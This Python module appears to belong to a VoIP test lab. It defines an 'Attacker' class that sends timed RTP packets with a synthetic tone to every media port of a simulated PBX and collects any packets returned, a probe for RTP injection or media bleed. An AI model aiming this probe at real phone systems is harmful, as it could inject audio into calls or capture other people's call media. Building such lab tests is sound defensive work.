"""Somebody who sends audio to hairpin's ports and is no party of any call."""
import math
import random
import socket
import struct
import threading
import time

import audio
from worlds import PBX_PUBLIC

PORTS = range(10000, 10012, 2)
RTP_CONF = "[general]\nrtpstart=%d\nrtpend=%d\n" % (PORTS[0], PORTS[-1] + 1)
TONE = audio.TONES["d"]


def _ulaw(sample):
    return min(range(256), key=lambda b: abs(audio._ulaw(b) - sample))


def payloads():
    """50 frames of 20 ms: one second of the attacker's tone."""
    law = {}
    for n in range(50):
        pcm = (int(8000 * math.sin(2 * math.pi * TONE * (n * 160 + i) / audio.RATE)) for i in range(160))
        yield bytes(law.setdefault(x, _ulaw(x)) for x in pcm)


class Attacker:
    """Sends RTP at the pace of audio to every port of hairpin's, from one socket, and keeps what comes back."""

    def __init__(self, node, ssrc=None):
        self.socket = node.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("0.0.0.0", 0))
        self.socket.settimeout(0.01)
        self.ssrc = ssrc or random.getrandbits(32)
        self.seq = random.getrandbits(15)
        self.got, self.over = [], False
        self.payloads = list(payloads())
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        began, n = time.monotonic(), 0
        while not self.over:
            head = struct.pack(">BBHII", 0x80, 0, self.seq + n & 0xffff, n * 160, self.ssrc)
            for port in PORTS:
                try:
                    self.socket.sendto(head + self.payloads[n % 50], (PBX_PUBLIC, port))
                except OSError:         # a port that nobody has, or the lab is being taken down
                    pass
            n += 1
            while time.monotonic() < began + n * 0.02:
                self._listen()

    def _listen(self):
        try:
            self.got.append(self.socket.recv(2000))
        except (TimeoutError, ConnectionError):
            pass

    def stop(self):
        """How many packets came to it."""
        self.over = True
        self.thread.join(2)
        self.socket.close()
        return len(self.got)
